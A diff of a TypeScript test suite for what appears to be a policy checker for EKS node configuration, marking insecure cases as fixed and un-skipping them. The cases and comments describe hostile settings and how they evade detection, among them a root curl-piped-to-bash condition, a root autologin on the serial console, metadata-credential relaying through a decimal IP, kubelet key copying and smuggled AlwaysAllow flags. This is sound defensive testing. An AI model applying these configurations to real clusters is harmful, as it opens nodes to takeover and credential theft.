@@ -50,7 +50,7 @@ const caBundle = Buffer.from(
 ).toString("base64");
 
 const insecure: NodeCase[] = [
-    // MISS: nodeadm (amazon-eks-ami nodeadm/internal/kubelet/environment.go writeKubeletEnvironment) appends the
+    // Was a MISS (fixed in round 26): nodeadm (amazon-eks-ami nodeadm/internal/kubelet/environment.go writeKubeletEnvironment) appends the
     // NodeConfig's kubelet.flags entries as they are and joins everything with " " into NODEADM_KUBELET_ARGS in
     // /etc/eks/kubelet/environment; kubelet.service runs `ExecStart=/usr/bin/kubelet $NODEADM_KUBELET_ARGS`
     // (templates/al2023/runtime/rootfs/etc/systemd/system/kubelet.service), and systemd.service(5) "Command lines":
@@ -62,7 +62,7 @@ const insecure: NodeCase[] = [
         name: "a NodeConfig kubelet.flags entry holding two flags (--node-labels=... --read-only-port=10255): nodeadm joins, systemd splits",
         stack: "dev",
         config: nodePolicyConfig,
-        skip: true,
+
         edit: r =>
             al2023Nodes(
                 r,
@@ -76,7 +76,7 @@ const insecure: NodeCase[] = [
         refused: /read-only/,
         policy: EFFECTIVE,
     },
-    // MISS: the same split (nodeadm joins kubelet.flags with spaces, systemd splits $NODEADM_KUBELET_ARGS at
+    // Was a MISS (fixed in round 26): the same split (nodeadm joins kubelet.flags with spaces, systemd splits $NODEADM_KUBELET_ARGS at
     // whitespace) hides --authorization-mode=AlwaysAllow: the kubelet API (exec into every pod on the node) stops
     // asking the API server (kubelet reference: command-line flags override the config file). Refused when it is an
     // entry of its own; here it is read as the value of --max-pods.
@@ -84,7 +84,7 @@ const insecure: NodeCase[] = [
         name: "a NodeConfig kubelet.flags entry '--max-pods=58 --authorization-mode=AlwaysAllow' (one entry, two kubelet flags)",
         stack: "dev",
         config: nodePolicyConfig,
-        skip: true,
+
         edit: r =>
             al2023Nodes(
                 r,
@@ -98,7 +98,7 @@ const insecure: NodeCase[] = [
         refused: /AlwaysAllow/,
         policy: EFFECTIVE,
     },
-    // MISS: containerd docs/cri/config.md: `disable_tcp_service disables serving CRI on the TCP server. Note that a TCP
+    // Was a MISS (fixed in round 26): containerd docs/cri/config.md: `disable_tcp_service disables serving CRI on the TCP server. Note that a TCP
     // server is enabled for containerd if TCPAddress is set in section [grpc].` With [grpc] tcp_address on the node's
     // interfaces and disable_tcp_service = false, the CRI API (RunPodSandbox/CreateContainer with privileged: true,
     // host mounts, ExecSync) is served without authentication to anyone reaching the port: every pod of the node
@@ -107,7 +107,7 @@ const insecure: NodeCase[] = [
         name: "a NodeConfig containerd.config serving the CRI API on TCP ([grpc] tcp_address 0.0.0.0:10010, disable_tcp_service = false)",
         stack: "dev",
         config: nodePolicyConfig,
-        skip: true,
+
         edit: r =>
             al2023Nodes(
                 r,
@@ -124,7 +124,7 @@ const insecure: NodeCase[] = [
         refused: /tcp/,
         policy: EFFECTIVE,
     },
-    // MISS: systemd.unit(5) "Specifiers": %t is the "Runtime directory root", /run for the system manager, and Exec
+    // Was a MISS (fixed in round 26): systemd.unit(5) "Specifiers": %t is the "Runtime directory root", /run for the system manager, and Exec
     // command lines resolve specifiers. ExecStart=%t/spire/hooks/boot.sh runs /run/spire/hooks/boot.sh as root,
     // a file the DaemonSet writing /run/spire (podSpec.ts WRITABLE_DATA) chose. rootReads.pathsIn finds no absolute
     // path in "%t/spire/..." (a `/` after a letter), so the unit reads as naming no data directory. The same line with
@@ -133,7 +133,7 @@ const insecure: NodeCase[] = [
         name: "a root unit with ExecStart=%t/spire/hooks/boot.sh (%t is /run for the system manager), beside a DaemonSet writing /run/spire",
         stack: "dev",
         config: nodePolicyConfig,
-        skip: true,
+
         edit: r =>
             withDataWriter(
                 r,
@@ -157,7 +157,7 @@ const insecure: NodeCase[] = [
         refused: /spire/,
         policy: EFFECTIVE,
     },
-    // MISS: systemd.unit(5) "Specifiers": %S is the "State directory root", /var/lib for the system manager. The root
+    // Was a MISS (fixed in round 26): systemd.unit(5) "Specifiers": %S is the "State directory root", /var/lib for the system manager. The root
     // unit copies %S/kubelet/pki (the kubelet's client certificate and key: /var/lib/kubelet/pki) into /data, where
     // the DaemonSet reads it and acts as the node. A copy of node secrets into a data directory is refused when
     // written /var/lib/kubelet/pki (rootReads refuseSecrets); the specifier hides the source. (The unit is not named
@@ -166,7 +166,7 @@ const insecure: NodeCase[] = [
         name: "a root unit copying %S/kubelet/pki (the kubelet's client key under /var/lib) into /data/backup",
         stack: "dev",
         config: nodePolicyConfig,
-        skip: true,
+
         edit: r =>
             withDataWriter(
                 r,
@@ -187,7 +187,7 @@ const insecure: NodeCase[] = [
         refused: /pki/,
         policy: EFFECTIVE,
     },
-    // MISS: cloud-init cc_power_state_change.check_condition runs `condition` with
+    // Was a MISS (fixed in round 26): cloud-init cc_power_state_change.check_condition runs `condition` with
     // subprocess.Popen(cond, shell=not isinstance(cond, list)) as root once cloud-init's final stage ends (module
     // reference "Power State Change": condition "a command string or list to be executed"; ALL_DISTROS). A download
     // piped into bash there is the refused `curl ... | bash` (round 25) in another key: userData.ts reads keys other
@@ -196,7 +196,7 @@ const insecure: NodeCase[] = [
         name: "a cloud-config power_state whose condition runs curl -fsSL https://bootstrap.example.com/node.sh | bash (cloud-init runs it through a shell as root)",
         stack: "dev",
         config: nodePolicyConfig,
-        skip: true,
+
         edit: r =>
             al2023Nodes(
                 r,
@@ -211,7 +211,7 @@ const insecure: NodeCase[] = [
         refused: /bootstrap\.example\.com|fetched/,
         policy: EFFECTIVE,
     },
-    // MISS: the same power_state condition (a root shell command) setting ec2-user's password and turning on sshd's
+    // Was a MISS (fixed in round 26): the same power_state condition (a root shell command) setting ec2-user's password and turning on sshd's
     // password logins through a drop-in. Both are refused in runcmd or a shell part (nodeJudge.ran chpasswd,
     // sshdOpenings on the written drop-in); sshdOpenings' free-text reading of the cloud-config body only matches a
     // keyword at a line's start, and here it follows `echo '`.
@@ -219,7 +219,7 @@ const insecure: NodeCase[] = [
         name: "a cloud-config power_state condition running chpasswd for ec2-user and echoing PasswordAuthentication yes into sshd_config.d",
         stack: "dev",
         config: nodePolicyConfig,
-        skip: true,
+
         edit: r =>
             al2023Nodes(
                 r,
@@ -233,7 +233,7 @@ const insecure: NodeCase[] = [
         refused: /password/i,
         policy: EFFECTIVE,
     },
-    // MISS: cloud-init distros/ug_util.py normalize_users_groups: a top-level `user:` dict is merged into the default
+    // Was a MISS (fixed in round 26): cloud-init distros/ug_util.py normalize_users_groups: a top-level `user:` dict is merged into the default
     // user's configuration (cloud-config "Users and Groups": "user: ... override the default_user configuration"),
     // and _normalize_users rewrites every key with k.replace("-", "_"): `ssh-authorized-keys` becomes
     // ssh_authorized_keys and create_user installs the key for ec2-user. userData.ts checks c.users entries (not
@@ -242,7 +242,7 @@ const insecure: NodeCase[] = [
         name: "a cloud-config singular `user:` in flow style with ssh-authorized-keys (cloud-init maps `-` to `_` and merges it into ec2-user)",
         stack: "dev",
         config: nodePolicyConfig,
-        skip: true,
+
         edit: r =>
             al2023Nodes(
                 r,
@@ -252,7 +252,7 @@ const insecure: NodeCase[] = [
         refused: /SSH key/,
         policy: EFFECTIVE,
     },
-    // MISS: the same normalisation (ug_util._normalize_users: k.replace("-", "_")) makes `plain-text-passwd` the
+    // Was a MISS (fixed in round 26): the same normalisation (ug_util._normalize_users: k.replace("-", "_")) makes `plain-text-passwd` the
     // plain_text_passwd create_user sets with chpasswd, and `lock-passwd: false` unlocks it: a password login for a
     // sudoer (EC2 serial console, or SSH once password logins are on). userData.ts checks passwd/plain_text_passwd/
     // hashed_passwd spelled with underscores only.
@@ -260,7 +260,7 @@ const insecure: NodeCase[] = [
         name: "a cloud-config users entry with plain-text-passwd and lock-passwd: false (hyphen spellings cloud-init maps to plain_text_passwd)",
         stack: "dev",
         config: nodePolicyConfig,
-        skip: true,
+
         edit: r =>
             al2023Nodes(
                 r,
@@ -278,7 +278,7 @@ const insecure: NodeCase[] = [
         refused: /password/i,
         policy: EFFECTIVE,
     },
-    // MISS: agetty(8) --autologin: "Automatically log in the specified user without asking for a username or
+    // Was a MISS (fixed in round 26): agetty(8) --autologin: "Automatically log in the specified user without asking for a username or
     // password". A serial-getty@ttyS0 drop-in replacing ExecStart with `agetty --autologin root` gives a root shell to
     // whoever opens the instance's EC2 serial console (ec2-instance-connect:SendSerialConsoleSSHPublicKey), no key or
     // password of the node's: the same access the pack refuses for a password set by user data.
@@ -286,7 +286,7 @@ const insecure: NodeCase[] = [
         name: "a serial-getty@ttyS0 drop-in running agetty --autologin root (a root shell on the EC2 serial console, no password)",
         stack: "dev",
         config: nodePolicyConfig,
-        skip: true,
+
         edit: r =>
             al2023Nodes(
                 r,
@@ -303,7 +303,7 @@ const insecure: NodeCase[] = [
         refused: /autologin|console/,
         policy: EFFECTIVE,
     },
-    // MISS: inet_aton(3) (which glibc's getaddrinfo uses for numeric hosts) reads "a.b.c.d, a.b.c, a.b, a" forms: a
+    // Was a MISS (fixed in round 26): inet_aton(3) (which glibc's getaddrinfo uses for numeric hosts) reads "a.b.c.d, a.b.c, a.b, a" forms: a
     // single 32-bit number 2852039166 is 169.254.169.254. A root socat relaying a node port to TCP:2852039166:80 gives
     // every pod reaching the node the node role's credentials whatever the hop limit; userData.ts IMDS matches only
     // the dotted (and fd00:ec2::254) spellings.
@@ -311,7 +311,7 @@ const insecure: NodeCase[] = [
         name: "a root unit relaying instance metadata with the address as one number (socat ... TCP:2852039166:80)",
         stack: "dev",
         config: nodePolicyConfig,
-        skip: true,
+
         edit: r =>
             al2023Nodes(
                 r,
@@ -331,7 +331,7 @@ const insecure: NodeCase[] = [
         refused: /metadata/,
         policy: EFFECTIVE,
     },
-    // MISS: nodeadm writes spec.cluster.certificateAuthority to /etc/kubernetes/pki/ca.crt, which is both the CA the
+    // Was a MISS (fixed in round 26): nodeadm writes spec.cluster.certificateAuthority to /etc/kubernetes/pki/ca.crt, which is both the CA the
     // kubelet trusts for the API server and its authentication.x509.clientCAFile (userData.ts itself notes "nodeadm
     // writes the cluster CA here"). A bundle adding a second CA (a TLS-inspecting proxy's) lets certificates that CA
     // signs call the kubelet (O=system:masters passes the Webhook authorization: exec into every pod). The pack refuses
@@ -340,7 +340,7 @@ const insecure: NodeCase[] = [
         name: "a NodeConfig whose cluster.certificateAuthority is a bundle of two CAs (the second becomes the kubelet's client CA too)",
         stack: "dev",
         config: nodePolicyConfig,
-        skip: true,
+
         edit: r =>
             al2023Nodes(
                 r,
@@ -425,7 +425,7 @@ const secure: NodeCase[] = [
                 ]),
             ),
     },
-    // MISS: (secure, refused) sshd_config(5) AuthorizedKeysFile: "may be set to none to skip checking for user keys
+    // Was a MISS (secure, refused; fixed in round 26): sshd_config(5) AuthorizedKeysFile: "may be set to none to skip checking for user keys
     // in files"; AuthorizedKeysCommand defaults to none. With both none and passwords off no one logs in over SSH:
     // EKS best practices "Minimize access to worker nodes". sshdOpenings refuses any AuthorizedKeysFile/
     // AuthorizedKeysCommand line whatever its value (4 findings: the free-text and the drop-in reading each).
@@ -433,7 +433,7 @@ const secure: NodeCase[] = [
         name: "an sshd drop-in turning key logins off (AuthorizedKeysFile none, AuthorizedKeysCommand none, PasswordAuthentication no)",
         stack: "dev",
         config: nodePolicyConfig,
-        skip: true,
+
         edit: r =>
             al2023Nodes(
                 r,
